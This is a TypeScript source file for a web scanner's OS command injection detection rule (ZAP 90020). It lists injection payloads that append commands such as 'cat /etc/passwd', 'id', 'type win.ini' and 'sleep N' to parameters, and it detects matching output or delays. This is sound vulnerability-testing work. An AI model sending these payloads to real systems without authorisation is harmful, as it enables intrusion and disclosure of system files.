/**
 * 90020 Remote OS Command Injection. First output-based: append a shell separator and a command
 * whose output is unmistakable (`cat /etc/passwd` → `root:x:0:0:`, `id` → `uid=…`, `type win.ini`
 * → `[fonts]`). When nothing shows, time-based: append `sleep N` and compare with the baseline
 * time; a slow answer counts only when `sleep 0` is fast again and a second `sleep N` is slow
 * again, so one slow response of a busy server does not make an alert. The delay is bounded
 * (default 3 s, at most 5 s) and so is the time spent per parameter.
 */
import { VigilError } from '../../../src/errors.js';
import type { ActiveRule, AttackPoint, HttpClient, WebAlert } from '../types.js';
import { regexFinder, sameRun, type Finder } from '../text-match.js';
import { type Sent, attackAlert, sendAttack } from './shared.js';

const ID = '90020';

const PASSWD = regexFinder(/root:[^:\r\n]*:0:0:/);
/**
 * `/uid=\d+\([^)\r\n]*\)\s+gid=\d+/`: the group list runs to the first `)` or line break, and a
 * later start before that place runs to it too, so a start that fails skips them (the regex would
 * rescan the line from each: quadratic on `uid=1(uid=1(…`).
 */
const ID_OUT = sameRun(/uid=\d+\(/g, /[^)\r\n]*\)\s+gid=\d+/y, (c) => c !== 0x29 && c !== 0x0d && c !== 0x0a);
const WIN_INI = regexFinder(/\[fonts\]|\[extensions\]/i);

/** The output each payload looks for (exported for tests). */
export const COMMAND_OUTPUT = { passwd: PASSWD, id: ID_OUT, winIni: WIN_INI };

const OUTPUT_PAYLOADS: ReadonlyArray<{ suffix: string; evidence: Finder }> = [
  { suffix: ';cat /etc/passwd', evidence: PASSWD },
  { suffix: '|cat /etc/passwd', evidence: PASSWD },
  { suffix: '&cat /etc/passwd', evidence: PASSWD },
  { suffix: '$(cat /etc/passwd)', evidence: PASSWD },
  { suffix: '`cat /etc/passwd`', evidence: PASSWD },
  { suffix: '\ncat /etc/passwd', evidence: PASSWD },
  { suffix: "';cat /etc/passwd;'", evidence: PASSWD },
  { suffix: '";cat /etc/passwd;"', evidence: PASSWD },
  { suffix: ';id', evidence: ID_OUT },
  { suffix: '|id', evidence: ID_OUT },
  { suffix: '$(id)', evidence: ID_OUT },
  { suffix: '&type %SYSTEMROOT%\\win.ini', evidence: WIN_INI },
  { suffix: '|type %SYSTEMROOT%\\win.ini', evidence: WIN_INI },
];

/** `{d}` is the delay in seconds. */
const TIME_SUFFIXES = [';sleep {d}', '|sleep {d}', '&sleep {d}', '$(sleep {d})', '`sleep {d}`', '\nsleep {d}', "';sleep {d};'", '";sleep {d};"'];

export interface CommandInjectionOptions {
  /** The sleep of the time-based test, in seconds: 1 … 5, default 3. */
  delaySeconds?: number;
  /** The most time the time-based test may spend on one parameter, in ms (default 40 000). */
  maxTimeMsPerPoint?: number;
}

/** The OS command injection rule (ZAP 90020), with its time-based delay and budget. */
export function commandInjectionRule(opts: CommandInjectionOptions = {}): ActiveRule {
  const delay = opts.delaySeconds ?? 3;
  if (!Number.isFinite(delay) || delay < 1 || delay > 5) {
    throw new VigilError('VIGIL_ERR_USAGE', `the command injection delay must be 1 to 5 seconds, not ${String(opts.delaySeconds)}`);
  }
  const budget = opts.maxTimeMsPerPoint ?? 40_000;
  if (!Number.isFinite(budget) || budget < delay * 1000 * 3) {
    throw new VigilError('VIGIL_ERR_USAGE', `the command injection time budget must allow three delayed requests (at least ${delay * 3000} ms)`);
  }
  return { id: ID, run: (point, client, signal) => run(point, client, delay, budget, signal) };
}

async function run(point: AttackPoint, client: HttpClient, delay: number, budget: number, signal?: AbortSignal): Promise<WebAlert[]> {
  const base = await sendAttack(client, point, point.value, {}, signal);
  if (!base) return [];
  for (const { suffix, evidence } of OUTPUT_PAYLOADS) {
    if (evidence(base.res.body)) continue;
    const payload = point.value + suffix;
    const sent = await sendAttack(client, point, payload, {}, signal);
    if (!sent) continue;
    const found = evidence(sent.res.body)?.text;
    if (found !== undefined) return [attackAlert(ID, point, sent, payload, found, 'The output of the injected command is in the response.')];
  }
  return timeBased(point, client, base, delay, budget, signal);
}

async function timeBased(point: AttackPoint, client: HttpClient, base: Sent, delay: number, budget: number, signal?: AbortSignal): Promise<WebAlert[]> {
  const baseMs = base.res.elapsedMs;
  const delayMs = delay * 1000;
  const timeoutMs = baseMs + delayMs + 5000;
  const started = Date.now();
  const timed = async (payload: string): Promise<Sent | null> => {
    // a request that might not finish within the budget is not started
    if (Date.now() - started + timeoutMs > budget) return null;
    return sendAttack(client, point, payload, { timeoutMs }, signal);
  };
  // the sleep can only make a response slower, so a response faster than the delay never counts
  const slow = (s: Sent | null): s is Sent => s !== null && s.res.elapsedMs >= delayMs && s.res.elapsedMs - baseMs >= delayMs * 0.8;
  const fast = (s: Sent | null): s is Sent => s !== null && s.res.elapsedMs < baseMs + delayMs * 0.5;
  for (const suffix of TIME_SUFFIXES) {
    if (Date.now() - started + timeoutMs > budget) break;
    const payload = point.value + suffix.replace('{d}', String(delay));
    const first = await timed(payload);
    if (!slow(first)) continue;
    const control = await timed(point.value + suffix.replace('{d}', '0'));
    if (!fast(control)) continue;
    const second = await timed(payload);
    if (!slow(second)) continue;
    return [
      attackAlert(
        ID,
        point,
        second,
        payload,
        `response time ${second.res.elapsedMs} ms (original ${baseMs} ms)`,
        `Time-based: sleep ${delay} made the response take ${first.res.elapsedMs} ms and ${second.res.elapsedMs} ms, sleep 0 ${control.res.elapsedMs} ms, the original ${baseMs} ms.`,
      ),
    ];
  }
  return [];
}
